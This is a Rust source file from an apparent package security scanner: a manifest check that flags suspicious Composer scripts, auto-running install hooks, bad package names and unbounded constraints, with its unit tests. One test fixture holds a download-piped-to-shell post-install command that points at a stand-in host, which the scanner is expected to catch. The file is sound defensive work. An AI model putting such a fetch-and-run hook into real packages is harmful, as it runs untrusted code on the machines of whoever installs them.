use std::path::Path;

use super::{CompiledRules, PackageCheck, PackageTree};
use crate::checker::parse_manifest;
use crate::model::{Finding, ManifestReport, ScanBreakdown, Severity};

pub struct ManifestCheck;

impl PackageCheck for ManifestCheck {
    fn name(&self) -> &'static str {
        "manifest"
    }

    fn run(&self, tree: &PackageTree, rules: &CompiledRules, scans: &mut ScanBreakdown) {
        scans.manifest = validate_manifest(&tree.root, rules);
    }
}

/// Parses the package manifest and inspects its scripts and constraints.
pub fn validate_manifest(root: &Path, rules: &CompiledRules) -> ManifestReport {
    let file_name = &rules.rules().manifest_file;
    let mut report = ManifestReport::default();

    let manifest = match parse_manifest(&root.join(file_name)) {
        Ok(manifest) => manifest,
        Err(e) => {
            report
                .errors
                .push(Finding::new("invalid-manifest", Severity::High, e.to_string()).in_file(file_name));
            return report;
        }
    };

    match manifest.name.as_deref() {
        None => report.warnings.push(
            Finding::new("manifest-name", Severity::Low, "Manifest has no package name")
                .in_file(file_name),
        ),
        Some(name) if !name.contains('/') => report.warnings.push(
            Finding::new(
                "manifest-name",
                Severity::Low,
                format!("Package name '{}' is not in vendor/package form", name),
            )
            .in_file(file_name),
        ),
        Some(_) => {}
    }

    for (hook, entry) in &manifest.scripts {
        for command in entry.commands() {
            if rules.scripts.iter().any(|re| re.is_match(command)) {
                report.errors.push(
                    Finding::new(
                        "suspicious-script",
                        Severity::Critical,
                        format!("Suspicious command in script '{}': {}", hook, command),
                    )
                    .in_file(file_name),
                );
            }
        }

        if rules.rules().lifecycle_scripts.iter().any(|h| h == hook) {
            report.warnings.push(
                Finding::new(
                    "lifecycle-script",
                    Severity::Medium,
                    format!("Script '{}' runs automatically on install or update", hook),
                )
                .in_file(file_name),
            );
        }
    }

    for (package, constraint) in &manifest.require {
        let constraint = constraint.trim();
        if constraint == "*" || constraint.starts_with("dev-") {
            report.warnings.push(
                Finding::new(
                    "unbounded-constraint",
                    Severity::Low,
                    format!("Unbounded constraint for {}: {}", package, constraint),
                )
                .in_file(file_name),
            );
        }
    }

    report.valid = report.errors.is_empty();
    report
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::scanner::ScanRules;
    use std::fs;
    use tempfile::TempDir;

    fn validate(manifest: Option<&str>) -> ManifestReport {
        let dir = TempDir::new().unwrap();
        if let Some(content) = manifest {
            fs::write(dir.path().join("composer.json"), content).unwrap();
        }
        let rules = CompiledRules::compile(ScanRules::default()).unwrap();
        validate_manifest(dir.path(), &rules)
    }

    #[test]
    fn test_missing_manifest() {
        let report = validate(None);
        assert!(!report.valid);
        assert!(report.errors[0].message.starts_with("Manifest file not found"));
    }

    #[test]
    fn test_malformed_manifest() {
        let report = validate(Some("{\"name\": "));
        assert!(!report.valid);
        assert!(report.errors[0].message.starts_with("Invalid JSON in"));
    }

    #[test]
    fn test_clean_manifest() {
        let report = validate(Some(
            r#"{"name": "acme/maps", "require": {"php": "^8.1"}, "scripts": {"test": "phpunit"}}"#,
        ));
        assert!(report.valid);
        assert!(report.warnings.is_empty());
    }

    #[test]
    fn test_download_piped_to_shell() {
        let report = validate(Some(
            r#"{
                "name": "acme/maps",
                "scripts": {"post-install-cmd": ["curl -s https://x.example/i.sh | sh"]}
            }"#,
        ));
        assert!(!report.valid);
        assert_eq!(report.errors[0].rule, "suspicious-script");
        assert_eq!(report.errors[0].severity, Severity::Critical);
        assert_eq!(report.warnings[0].rule, "lifecycle-script");
    }

    #[test]
    fn test_name_and_constraint_warnings() {
        let report = validate(Some(r#"{"name": "maps", "require": {"acme/core": "dev-main"}}"#));
        assert!(report.valid);
        let rules: Vec<&str> = report.warnings.iter().map(|f| f.rule.as_str()).collect();
        assert_eq!(rules, vec!["manifest-name", "unbounded-constraint"]);
    }
}
